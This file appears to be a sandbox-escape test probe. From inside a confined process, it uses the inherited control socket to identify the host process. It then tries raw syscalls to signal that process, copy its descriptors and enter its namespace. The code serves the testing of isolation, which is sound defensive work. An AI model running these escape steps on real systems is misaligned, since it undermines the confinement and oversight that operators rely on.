# attack: ask the control channel who is at its other end, and signal it
# success: the host's process is known or signalled
import ctypes
import os
import socket
from support.raw import attempt, call, got, raw, say

channel = socket.socket(fileno=3)
pid, _, _ = __import__("struct").unpack("3i", channel.getsockopt(socket.SOL_SOCKET, 17, 12))
if pid != 0:
    got(f"the host's process {pid}")
handle, size = ctypes.c_int(-1), ctypes.c_uint(4)
result, errno = call(55, 3, socket.SOL_SOCKET, 77, ctypes.byref(handle), ctypes.byref(size))
say(f"peer handle: {handle.value} {os.strerror(errno)}")
if result == 0:
    raw("signal by the peer's handle", 424, handle.value, 0, 0, 0)
    raw("descriptor of the peer", 438, handle.value, 0, 0)
    raw("namespace of the peer", 308, handle.value, 0x4000000)
